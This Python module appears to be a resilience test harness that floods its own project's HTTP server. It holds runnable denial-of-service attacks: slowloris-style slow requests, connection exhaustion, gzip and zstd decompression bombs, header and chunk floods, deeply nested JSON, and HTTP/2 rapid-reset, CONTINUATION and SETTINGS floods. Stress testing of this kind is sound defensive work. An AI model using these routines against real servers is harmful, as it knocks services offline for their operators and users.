"""Attacks of one stranger on the HTTP port, at full speed or as slowly as it can.

`python http_attacks.py NAME HOST:PORT SECONDS` attacks; effects.py does so in a process of its own.
"""

import contextlib
import functools
import gzip
import json
import select
import socket
import ssl
import time
from collections.abc import Iterator

from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, RstStreamFrame,
                              SettingsFrame)

from attacks import DEFAULT_WINDOW, KIB, MIB, Attack, main, moments
from http_bodies import zstd_bomb
from peer import Peer

# One client at a time has so many connections, and pauses for so long between two of its bytes.
CONNECTIONS, PAUSE_SECONDS = 800, 0.5
# The attacker itself does not wait longer for room to write in, or for an answer.
SEND_SECONDS, ANSWER_SECONDS = 5, 5
PIPELINED = 2_000
# Just below what a body may have.
BODY_BYTES = MIB - KIB
POST = "POST /v1/events HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
# More connections from one address than usual: the attack is what they do, not how many they are.
MANY = ("--set=http.max_per_address=2000",)


def connect(target: str) -> socket.socket:
    host, port = target.rsplit(":", 1)
    return socket.create_connection((host, int(port)), SEND_SECONDS)


def post(body: bytes, *fields: str, path: str = "") -> bytes:
    """A whole request."""
    head = POST.replace("/v1/events", "/v1/events" + path)
    return (head + "".join(f"{field}\r\n" for field in fields)
            + f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def answered(connection: socket.socket) -> bool:
    """Whether anything comes before time is up; False at the end."""
    try:
        connection.settimeout(ANSWER_SECONDS)
        return bool(connection.recv(1 << 16))
    except OSError:
        return False


def hold(target: str, until: float, first: bytes, more: bytes) -> int:
    """Keeps many connections, each with the same beginning, and gives each a little more, slowly;
    one that the server ends is made anew."""
    held: list[socket.socket] = []
    count = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            while len(held) < CONNECTIONS and time.monotonic() < until:
                connection = connect(target)
                held.append(connection)
                connection.settimeout(0.05)
                connection.sendall(first)
                count += 1
        for connection in list(held):
            try:
                connection.sendall(more)
                # What the server says, or that it has closed.
                if select.select([connection], [], [], 0)[0] and not connection.recv(1 << 16):
                    raise ConnectionResetError
            except TimeoutError:
                pass  # It reads no further, and keeps the connection.
            except OSError:
                connection.close()
                held.remove(connection)
        time.sleep(max(0.0, min(PAUSE_SECONDS, until - time.monotonic())))
    return count


def repeat(target: str, until: float, request: bytes) -> int:
    """Sends the same request and waits for its answer, again and again; a connection that the server
    ends is made anew."""
    count = 0
    connection = None
    for _ in moments(until):
        try:
            connection = connection or connect(target)
            connection.sendall(request)
            if not answered(connection):
                raise ConnectionResetError
            count += 1
        except OSError:
            if connection:
                connection.close()
            connection = None
    return count


# MARK: Attacks. Each takes the address and when to stop, and returns how often it was made.


def slow_heads(target: str, until: float) -> int:
    """Heads that never end, a field at a time."""
    return hold(target, until, POST.encode(), b"X-A: b\r\n")


def slow_bodies(target: str, until: float) -> int:
    """Bodies that are nearly whole, and then a byte at a time."""
    head = POST + f"Content-Length: {BODY_BYTES}\r\n\r\n"
    return hold(target, until, head.encode() + b" " * (BODY_BYTES - KIB), b" ")


def many_connections(target: str, until: float) -> int:
    """More connections than a process may have files, held, and then again."""
    count = 0
    for _ in moments(until):
        held = []
        with contextlib.suppress(OSError):
            while len(held) < 1500 and time.monotonic() < until:
                held.append(connect(target))
                held[-1].sendall(b"GET /v1/ HTTP/1.1\r\nHost: a\r\n\r\n")
                # Accepted, and not only in the kernel's backlog.
                held[-1].settimeout(1)
                if not held[-1].recv(1 << 12):
                    break
                count += 1
        time.sleep(max(0.0, min(1.0, until - time.monotonic())))
        for connection in held:
            connection.close()
    return count


def pipelining(target: str, until: float) -> int:
    """Thousands of requests in a row whose answers nobody reads."""
    return unread(target, until, post(b"{}") * PIPELINED)


def unread_answers(target: str, until: float) -> int:
    """The same with answers of some 300 KiB each: 2,000 refusals."""
    return unread(target, until, post(b"[" + b"{}," * 1999 + b"{}]", path="?results=all") * 20)


def unread(target: str, until: float, requests: bytes) -> int:
    count = 0
    held: list[socket.socket] = []
    for _ in moments(until):
        try:
            connection = connect(target)
            held.append(connection)
            connection.settimeout(0.5)
            connection.sendall(requests)
            count += 1
        except OSError:
            pass  # It takes no more of them before somebody reads.
        if len(held) >= 50:
            held.pop(0).close()
    return count


def endless_chunks(target: str, until: float) -> int:
    """A body in chunks of a byte, each with an extension, without an end."""
    head = (POST + "Transfer-Encoding: chunked\r\n\r\n").encode()
    chunks = b"1;a=bcdefgh\r\n \r\n" * 4096
    count = 0
    for _ in moments(until):
        with contextlib.suppress(OSError), connect(target) as connection:
            connection.sendall(head)
            for _ in moments(until):
                connection.sendall(chunks)
                count += 4096
    return count


def gzip_bombs(target: str, until: float) -> int:
    """16 MiB in 16 KiB."""
    return repeat(target, until, post(gzip.compress(b" " * (16 * MIB)), "Content-Encoding: gzip"))


def zstd_bombs(target: str, until: float) -> int:
    """8 GiB in 256 KiB: a thousand and more blocks that are each one byte, said 131,072 times."""
    return repeat(target, until, post(zstd_bomb(8192 * MIB), "Content-Encoding: zstd"))


def gzip_at_the_limit(target: str, until: float) -> int:
    """A body of as many bytes as it may have, once it is inflated; all of it white space."""
    body = gzip.compress(b" " * (BODY_BYTES - 2) + b"[]")
    return repeat(target, until, post(body, "Content-Encoding: gzip"))


def header_floods(target: str, until: float) -> int:
    """Heads without an end: fields, and then one field."""
    count = 0
    for number in moments(until):
        with contextlib.suppress(OSError), connect(target) as connection:
            connection.sendall(POST.encode())
            part = b"X-A: b\r\n" * 8192 if number % 2 else b"v" * 64 * KIB
            for _ in range(64):
                connection.sendall(part)
                count += len(part)
    return count // KIB


def deep_json(target: str, until: float) -> int:
    """1 MiB of arrays in arrays."""
    return repeat(target, until, post(b"[" * BODY_BYTES))


def nearly_known_fields(target: str, until: float) -> int:
    """Events whose fields' names have to be held against every known one."""
    events = ({f"evemtId{number:x}": 1, f"occurTimes{number:x}": 2} for number in range(1 << 20))
    body = b"["
    for event in events:
        if len(body) > BODY_BYTES // 8:
            break
        body += json.dumps(event).encode() + b","
    return repeat(target, until, post(body[:-1] + b"]"))


# MARK: HTTP/2 under TLS


@functools.cache
def context() -> ssl.SSLContext:
    """Takes any certificate; made once, as that takes longer than a handshake."""
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols(["h2"])
    return made


def peers(target: str, until: float) -> Iterator[Peer]:
    """Connections, one after the other, until time is up."""
    for _ in moments(until):
        with contextlib.suppress(OSError, AssertionError), Peer(target, tls=context()) as peer:
            yield peer


def h2_fields(peer: Peer) -> bytes:
    return peer.encoder.encode([
        (":method", "POST"), (":scheme", "https"), (":authority", "a"), (":path", "/v1/events"),
        ("content-type", "application/json")])


def h2_resets(target: str, until: float) -> int:
    """Requests that are taken back at once."""
    count = 0
    for peer in peers(target, until):
        for stream in range(1, 20_001, 2):
            if peer.ended or time.monotonic() > until:
                break
            peer.send(HeadersFrame(stream, h2_fields(peer), flags=("END_HEADERS",)),
                      RstStreamFrame(stream, error_code=8))
            count += 1
    return count


def h2_continuations(target: str, until: float) -> int:
    """A head that goes on in ever more frames."""
    count = 0
    for peer in peers(target, until):
        peer.send(HeadersFrame(1, h2_fields(peer)))
        while not peer.ended and time.monotonic() < until:
            peer.send(*[ContinuationFrame(1, b"\x00\x01a\x01b" * 100)] * 50)
            count += 50
    return count


def h2_settings(target: str, until: float) -> int:
    """SETTINGS, each of which has to be answered, and no answer is read."""
    count = 0
    for peer in peers(target, until):
        while not peer.ended and time.monotonic() < until:
            peer.send(*[SettingsFrame(0, {4: 65_535})] * 500)
            count += 500
    return count


def h2_unfinished_bodies(target: str, until: float) -> int:
    """12 connections of 100 requests, each with as much of a body as the window lets through."""
    count = 0
    with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
        for _ in range(12):
            peer = stack.enter_context(Peer(target, tls=context()))
            for stream in range(1, 200, 2):
                peer.send(HeadersFrame(stream, h2_fields(peer), flags=("END_HEADERS",)),
                          DataFrame(stream, b" " * (DEFAULT_WINDOW // 100)))
                count += 1
        time.sleep(max(0.0, until - time.monotonic()))
    return count


def handshakes(target: str, until: float) -> int:
    """TLS handshakes, and nothing after them."""
    count = 0
    for _ in peers(target, until):
        count += 1
    return count


HTTP_ATTACKS = {
    "http-slow-heads": Attack(slow_heads, MANY, is_http=True),
    "http-slow-bodies": Attack(slow_bodies, MANY, is_http=True),
    "http-many-connections": Attack(
        # Both ports' connections have to fit the limit of open files.
        many_connections, ("--set=http.max_per_address=2000", "--set=http.max_connections=2000",
                           "--set=connections.max=1000"),
        files=1024, is_http=True),
    "http-pipelining": Attack(pipelining, is_http=True),
    "http-unread-answers": Attack(unread_answers, is_http=True),
    "http-endless-chunks": Attack(endless_chunks, is_http=True),
    "http-gzip-bombs": Attack(gzip_bombs, is_http=True),
    "http-zstd-bombs": Attack(zstd_bombs, is_http=True),
    "http-gzip-at-the-limit": Attack(gzip_at_the_limit, is_http=True),
    "http-header-floods": Attack(header_floods, is_http=True),
    "http-deep-json": Attack(deep_json, is_http=True),
    "http-nearly-known-fields": Attack(nearly_known_fields, is_http=True),
    "http-h2-resets": Attack(h2_resets, is_http=True, is_tls=True),
    "http-h2-continuations": Attack(h2_continuations, is_http=True, is_tls=True),
    "http-h2-settings": Attack(h2_settings, is_http=True, is_tls=True),
    "http-h2-unfinished-bodies": Attack(h2_unfinished_bodies, is_http=True, is_tls=True),
    "http-handshakes": Attack(handshakes, is_http=True, is_tls=True),
}

if __name__ == "__main__":
    main(HTTP_ATTACKS)
